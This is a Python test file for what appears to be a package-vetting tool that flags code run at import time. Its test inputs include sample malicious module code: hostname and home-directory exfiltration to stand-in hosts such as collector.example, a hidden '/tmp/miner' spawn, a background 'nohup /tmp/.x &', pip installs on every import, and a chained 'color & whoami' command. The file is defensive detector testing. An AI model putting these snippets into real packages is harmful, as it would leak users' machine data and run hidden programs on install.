"""Import-time side effects: module-level actions versus the same calls inside functions."""

from __future__ import annotations

from rulekit import ids, package, py, run

from pipvet.analysis.rules.imports import RULES
from pipvet.models import Severity, Stage


def test_module_level_download_and_process_fire() -> None:
    source = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://x.invalid/p')\n"
        "os.system('nohup /tmp/.x &')\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert ids(findings) == {"PV-IMP-001", "PV-IMP-002"}
    assert all(f.stage is Stage.IMPORT for f in findings)


def test_calls_reached_through_a_local_function_and_thread_count() -> None:
    source = (
        "import threading, subprocess\n"
        "def work():\n    subprocess.Popen(['/tmp/miner'])\n"
        "threading.Thread(target=work, daemon=True).start()\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert ids(findings) == {"PV-IMP-002", "PV-IMP-003"}


def test_network_with_host_facts_on_import_is_critical() -> None:
    source = "import requests, socket\nrequests.post('http://x.invalid', data=socket.gethostname())\n"
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert findings[0].severity is Severity.CRITICAL


def test_host_facts_handed_to_a_try_wrapper_still_count() -> None:
    """The dependency-confusion probe template hands ``os.getcwd`` to a helper that calls it."""
    source = (
        "import os, json, urllib.request\n"
        "def try_call(func, *args):\n    try:\n        return func(*args)\n    except Exception:\n"
        "        return 'err'\n"
        "data = json.dumps({'d': try_call(os.path.expanduser, '~'), 'c': try_call(os.getcwd)})\n"
        "urllib.request.urlopen('https://collector.example/?d=' + data)\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert [f.severity for f in findings if f.rule == "PV-IMP-001"] == [Severity.CRITICAL]


def test_benign_function_bodies_and_main_guard_are_quiet() -> None:
    source = (
        "import subprocess, requests, sys\n"
        "def fetch(url):\n    return requests.get(url)\n"
        "def run(cmd):\n    return subprocess.run(cmd)\n"
        "if sys.platform != 'win32' and __name__ == '__main__':\n    run(['ls'])\n"
        "VERSION = subprocess.check_output(['git', 'describe'])\n"
    )
    assert run(RULES, py(source, path="acme/__init__.py")) == []


def test_scripts_and_tests_are_not_import_time() -> None:
    source = "import subprocess\nsubprocess.check_call(['make', 'docs'])\nsubprocess.call(['./x'])\n"
    members = ("acme/__init__.py", "tools/gen.py", "tests/test_x.py")
    pkg = package(members=members)
    assert run(RULES, py(source, path="tools/gen.py", stage=Stage.RUNTIME), pkg) == []
    assert run(RULES, py(source, path="tests/test_x.py", stage=Stage.RUNTIME), pkg) == []


def test_console_only_commands_and_inert_subprocess_names_run_nothing() -> None:
    source = (
        "import os, platform, subprocess\n"
        "if platform.system() == 'Windows':\n"
        "    os.system('color')\n"
        "os.system('')\n"
        "os.system('cls')\n"
        "INFO = subprocess.STARTUPINFO()\n"
        "ERROR = subprocess.CalledProcessError(1, 'x')\n"
    )
    assert ids(run(RULES, py(source, path="pkg/__init__.py"))) == set()
    spawn = source + "os.system('color & whoami')\n"
    assert "PV-IMP-002" in ids(run(RULES, py(spawn, path="pkg/__init__.py")))
    assert "PV-IMP-002" in ids(run(RULES, py("import os\nos.system('whoami')\n", path="pkg/__init__.py")))


def test_a_package_main_module_is_a_main_guard() -> None:
    source = "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', 'acme'])\n"
    pkg = package(members=("acme/__init__.py", "acme/__main__.py", "acme/cli.py"))
    assert run(RULES, py(source, path="acme/__main__.py", stage=Stage.RUNTIME), pkg) == []
    assert "PV-IMP-002" in ids(run(RULES, py(source, path="acme/cli.py", stage=Stage.RUNTIME), pkg))


def test_a_program_run_in_a_context_managers_enter_runs_on_import() -> None:
    """``with K():`` at module level runs ``K.__enter__``; ``K.__exit__`` alone is not reached."""
    source = (
        "import subprocess\nclass K:\n    def __enter__(self):\n"
        "        subprocess.run(['id'])\n    def __exit__(self, *a):\n        pass\n"
        "with K():\n    pass\n"
    )
    findings = run(RULES, py(source, path="acme/__init__.py"))
    assert ids(findings) == {"PV-IMP-002"}
    assert findings[0].line == 4
    assert "K.__enter__()" in findings[0].message
    assert run(RULES, py(source.replace("with K():", "if K:"), path="acme/__init__.py")) == []


def test_a_probe_of_urlopens_arguments_and_a_call_to_this_machine_connect_nowhere() -> None:
    """skyfield calls ``urlopen('', cafile=None)`` at import to learn which arguments it takes;
    easyprocess' example asks the web server it just started on localhost."""
    probe = py(
        "from urllib.request import urlopen\n"
        "try:\n    urlopen('', cafile=None)\nexcept TypeError:\n    pass\n"
        "html = urlopen('http://localhost:8080').read()\n",
        path="acme/__init__.py",
    )
    assert "PV-IMP-001" not in ids(run(RULES, probe))
    away = py("from urllib.request import urlopen\nurlopen('http://x.invalid/p')\n", path="acme/__init__.py")
    assert "PV-IMP-001" in ids(run(RULES, away))


def test_installing_packages_on_every_import_is_critical() -> None:
    """A package installed by every import is code the installer never resolved and pipvet never
    vetted; as a fallback under a condition (a missing module, chromadb swapping in pysqlite3 on
    Colab's old sqlite3) it is high, like any program run on import."""
    bad = py(
        "import subprocess, sys\n"
        "subprocess.call([sys.executable, '-m', 'pip', 'install', '-q', 'colorinal'])\n",
        path="acme/__init__.py",
    )
    found = [f for f in run(RULES, bad) if f.rule == "PV-IMP-002"]
    assert [f.severity for f in found] == [Severity.CRITICAL]
    assert "installs packages" in found[0].message
    fallback = py(
        "import subprocess, sys\ntry:\n    import colorinal\nexcept ImportError:\n"
        "    subprocess.call([sys.executable, '-m', 'pip', 'install', '-q', 'colorinal'])\n",
        path="acme/__init__.py",
    )
    assert [f.severity for f in run(RULES, fallback) if f.rule == "PV-IMP-002"] == [Severity.HIGH]
    # a helper that installs an optional extra when its user calls it
    helper = py(
        "import subprocess, sys\ndef install_extra(name):\n"
        "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', name])\n",
        path="acme/extras.py",
    )
    assert "PV-IMP-002" not in ids(run(RULES, helper))
